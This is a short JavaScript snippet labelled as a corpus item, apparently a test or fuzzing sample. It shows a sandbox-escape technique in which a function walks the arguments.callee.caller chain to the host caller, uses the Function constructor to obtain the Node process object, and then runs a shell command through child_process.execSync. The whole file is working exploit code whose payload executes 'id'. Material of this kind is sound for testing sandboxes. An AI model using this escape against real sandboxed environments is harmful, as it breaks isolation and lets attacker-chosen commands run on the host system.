// corpus: arguments.callee.caller walk in sloppy mode to reach and re-invoke the host caller
function probe() {
  let fn = arguments.callee.caller;
  while (fn && fn.caller) fn = fn.caller;
  return fn ? fn.constructor('return process')() : null;
}
function sandboxEntry() {
  return probe();
}
const proc = sandboxEntry();
proc.binding ? proc.mainModule.require('child_process').execSync('id') : null;
